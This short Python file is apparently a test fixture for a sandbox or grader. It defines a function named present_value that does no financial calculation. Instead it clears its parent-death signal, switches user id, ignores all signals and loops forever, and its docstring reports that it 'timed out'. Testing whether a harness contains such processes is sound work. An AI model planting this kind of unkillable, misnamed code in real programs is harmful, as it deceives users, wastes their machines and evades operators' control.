"""Refuses to die with its parent, changes its user, ignores signals, and runs on.

present_value: timed out
"""

import ctypes
import signal


def present_value(cash_flows, discount):
    libc = ctypes.CDLL(None)
    libc.prctl(1, 0, 0, 0, 0)
    libc.setresuid(1000, 1000, 1000)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
